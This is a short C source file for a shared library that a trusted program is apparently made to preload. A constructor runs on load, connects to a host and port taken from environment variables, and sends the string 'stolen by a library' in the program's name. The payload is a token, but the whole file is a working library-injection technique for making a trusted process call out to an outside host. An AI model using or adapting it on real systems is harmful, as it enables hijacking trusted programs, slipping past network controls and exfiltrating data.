/* A library that a trusted program is made to load: its constructor speaks to the network in the program's name. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netdb.h>
#include <sys/socket.h>

__attribute__((constructor)) static void speak(void) {
  const char *name = getenv("PRELOAD_HOST"), *port = getenv("PRELOAD_PORT");
  struct addrinfo *to = NULL, hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
  if (!name || getaddrinfo(name, port, &hints, &to)) return;
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, to->ai_addr, to->ai_addrlen)) return;
  write(fd, "stolen by a library\n", 20);
  char byte;
  read(fd, &byte, 1);
}
